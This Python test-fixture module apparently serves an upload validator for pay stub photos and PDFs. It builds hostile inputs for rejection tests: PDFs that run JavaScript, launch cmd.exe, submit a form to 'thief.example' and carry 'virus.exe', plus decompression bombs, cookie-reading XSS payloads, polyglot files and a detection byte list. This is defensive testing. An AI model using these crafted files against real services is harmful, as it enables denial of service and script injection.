"""Files as phones send them, and files that mean harm: each made here, none of them kept in the tree."""

import base64
import io
import os
from zipfile import ZIP_DEFLATED, ZipFile

import pikepdf
from PIL import Image, ImageDraw

SECRET_PLACE = "34.0522"
# A picture of 64 by 48 pixels with a note about where it was taken, as an iPhone writes it.
A_HEIC = base64.b64decode(
    "AAAAHGZ0eXBoZWljAAAAAG1pZjFoZWljbWlhZgAAAb5tZXRhAAAAAAAAACFoZGxyAAAAAAAAAABwaWN0AAAAAAAAAAAAAAAA"
    "AAAAADRpbG9jAAAAAERAAAIAAQAAAAAB4gABAAAAAAAAAFsAAgAAAAACPQABAAAAAAAAADIAAAA4aWluZgAAAAAAAgAAABVp"
    "bmZlAgAAAAABAABodmMxAAAAABVpbmZlAgAAAQACAABFeGlmAAAAAA5waXRtAAAAAAABAAAA/WlwcnAAAADdaXBjbwAAAHZo"
    "dmNDAQNwAAAAkAAAAAAAHvAA/P34+AAADwNgAAEAGEABDAH//wNwAAADAJAAAAMAAAMAHroCQGEAAQAqQgEBA3AAAAMAkAAA"
    "AwAAAwAeoCCBBZbq5Ka5uAhoMCAAAAMDIAAAAwAhYgABAAZEAcFzwIkAAAATY29scm5jbHgAAQANAAaAAAAAFGlzcGUAAAAA"
    "AAAAQAAAAEAAAAAoY2xhcAAAAEAAAAABAAAAMAAAAAEAAAAAAAAAAv////AAAAACAAAAEHBpeGkAAAAAAwgICAAAABhpcG1h"
    "AAAAAAAAAAEAAQWBAgMFhAAAABppcmVmAAAAAAAAAA5jZHNjAAIAAQABAAAAlW1kYXQAAABXKAGvGYD3hQ3/zsp9nuDk2h+T"
    "e1VR/rkJ6q2tEKAKRxw0mNoA2aMkTsk43sHaR6vzP4MS+dKm56GOD/4HT+DBqvFQ3AMzigl8FYsaa5zMgvOgmeJA4ZGRAAAA"
    "BkV4aWYAAE1NACoAAAAIAAEBDgACAAAADQAAABoAAAAAc2VjcmV0IHBsYWNlAAA="
)


def a_photo(kind: str = "JPEG", size: tuple[int, int] = (640, 480), mark: str = "Badge 27") -> bytes:
    """A pay stub on a table; the mark makes its bytes its own."""
    image = Image.new("RGB", size, "#d8cfc0")
    pen = ImageDraw.Draw(image)
    pen.rectangle((size[0] // 10, size[1] // 10, size[0] * 9 // 10, size[1] * 9 // 10), fill="white")
    pen.text((size[0] // 6, size[1] // 5), f"PAY STUB  {mark}", fill="black")
    out = io.BytesIO()
    image.save(out, kind)
    return out.getvalue()


def a_photo_with_a_place() -> bytes:
    """A JPEG that says where, with which telephone, held how, and has a tail."""
    image = Image.new("RGB", (60, 40), "red")
    notes = Image.Exif()
    notes[0x0112] = 6
    notes[0x010F] = "Telephone"
    notes.get_ifd(0x8825)[1] = SECRET_PLACE
    out = io.BytesIO()
    image.save(out, "JPEG", exif=notes, comment=SECRET_PLACE.encode())
    return out.getvalue() + b"tail" + SECRET_PLACE.encode()


def a_paper(pages: int = 1, **options) -> bytes:
    """A PDF of empty pages."""
    pdf = pikepdf.new()
    for _page in range(pages):
        pdf.add_blank_page()
    return written(pdf, **options)


def written(pdf: pikepdf.Pdf, **options) -> bytes:
    """The bytes of a PDF."""
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def an_acting_paper() -> bytes:
    """A PDF that runs a script, starts a program, sends a form and carries a file."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    name = pikepdf.Name
    script = pikepdf.Dictionary(S=name.JavaScript, JS="app.alert('here')")
    pdf.Root.OpenAction = script
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", script])))
    pdf.attachments["virus.exe"] = b"MZ the carried file"
    page = pdf.pages[0]
    page.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=name.Launch, F="cmd.exe"))
    link = pikepdf.Dictionary(
        Type=name.Annot,
        Subtype=name.Link,
        Rect=[0, 0, 600, 800],
        A=pikepdf.Dictionary(S=name.SubmitForm, F="https://thief.example"),
    )
    carried = pikepdf.Dictionary(Type=name.Annot, Subtype=name.FileAttachment, Rect=[0, 0, 9, 9])
    page.Annots = pikepdf.Array([pdf.make_indirect(link), carried])
    return written(pdf)


def a_locked_paper(opens_with: str = "secret") -> bytes:
    """A PDF that opens with a password; with an empty one it only may not be printed."""
    return a_paper(encryption=pikepdf.Encryption(user=opens_with, owner="owner"))


def a_paper_bomb(*, layers: int = 1) -> bytes:
    """Some hundred kilobytes that unpack to 400 megabytes, in one layer or more."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.pages[0].Contents = pikepdf.Stream(pdf, b"\0" * 400_000_000)
    whole = written(pdf, compress_streams=True)
    if layers == 1:
        return whole
    import zlib

    with pikepdf.open(io.BytesIO(whole)) as again:
        packed = again.pages[0].Contents.read_raw_bytes()
        flates = pikepdf.Array([pikepdf.Name.FlateDecode] * layers)
        again.pages[0].Contents = pikepdf.Stream(again, zlib.compress(packed), Filter=flates)
        return written(again)


def a_pixel_flood() -> bytes:
    """A small PNG of 900 million pixels."""
    Image.MAX_IMAGE_PIXELS = None
    out = io.BytesIO()
    Image.new("1", (30_000, 30_000)).save(out, "PNG")
    return out.getvalue()


def a_zip_bomb() -> bytes:
    """A small archive of a large file."""
    out = io.BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        archive.writestr("zeros", b"\0" * 50_000_000)
    return out.getvalue()


A_SCRIPT = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(document.cookie)</script></svg>"
A_PAGE = b"<!doctype html><html><script>alert(1)</script></html>"
POLYGLOT_TAIL = b"<script>alert('tail')</script>PK\x03\x04"

HARM = (b"<script", b"alert(", b"PK\x03\x04", b"JavaScript", b"MZ ")


def a_photo_that_notes(words: bytes) -> bytes:
    """A JPEG with words in its comment."""
    out = io.BytesIO()
    Image.new("RGB", (60, 40), "red").save(out, "JPEG", comment=words)
    return out.getvalue()


# Files that are two things at once: what is kept of each is the photo or the paper alone.
POLYGLOTS = {
    "photo and page": lambda: a_photo() + A_PAGE,
    "photo and archive": lambda: a_photo() + a_zip_bomb(),
    "picture and script": lambda: a_photo("PNG") + POLYGLOT_TAIL,
    "photo that notes a script": lambda: a_photo_that_notes(A_SCRIPT),
    "paper and page": lambda: a_paper() + POLYGLOT_TAIL,
    "paper that acts": an_acting_paper,
}


class Endless:
    """The body of somebody who sends without end; who reads of it fails."""

    read_bytes = 0

    def read(self, size: int = -1) -> bytes:
        """Say that it was read."""
        self.read_bytes += abs(size)
        raise AssertionError("the body was read")

    readline = read


# What is refused, with the code of the refusal.
REFUSED = {
    "nothing": (lambda: b"", "empty_file"),
    "words": (lambda: b"this is my pay stub", "unknown_file_type"),
    "svg script": (lambda: A_SCRIPT, "unknown_file_type"),
    "html": (lambda: A_PAGE, "unknown_file_type"),
    "gif script": (lambda: b"GIF89a/*" + b"\0" * 90 + b"*/=1;alert(1)", "unknown_file_type"),
    "program": (lambda: b"MZ\x90\0" + os.urandom(600), "unknown_file_type"),
    "zip bomb": (a_zip_bomb, "unknown_file_type"),
    "junk before a pdf": (lambda: b"junk\n" + a_paper(), "unknown_file_type"),
    "half a photo": (lambda: a_photo()[:2000], "damaged_file"),
    "jpeg in name": (lambda: b"\xff\xd8\xff\xe0" + os.urandom(3000), "damaged_file"),
    "broken pdf": (lambda: b"%PDF-1.7\n" + os.urandom(4000), "damaged_file"),
    "locked pdf": (a_locked_paper, "locked_file"),
    "many pages": (lambda: a_paper(21), "too_many_pages"),
    "pixel flood": (a_pixel_flood, "too_many_pixels"),
    "dot": (lambda: a_photo("PNG", (4, 4)), "too_small"),
    "pdf bomb": (a_paper_bomb, "too_complex"),
    "pdf bomb in a bomb": (lambda: a_paper_bomb(layers=2), "too_complex"),
    "far too large": (lambda: a_photo() + b"\0" * 10_000_000, "file_too_large"),
}
# A bomb takes a while until it is stopped: the examiner's own test alone tries the second one too.
REFUSED_AT_DOORS = sorted(set(REFUSED) - {"pdf bomb in a bomb"})
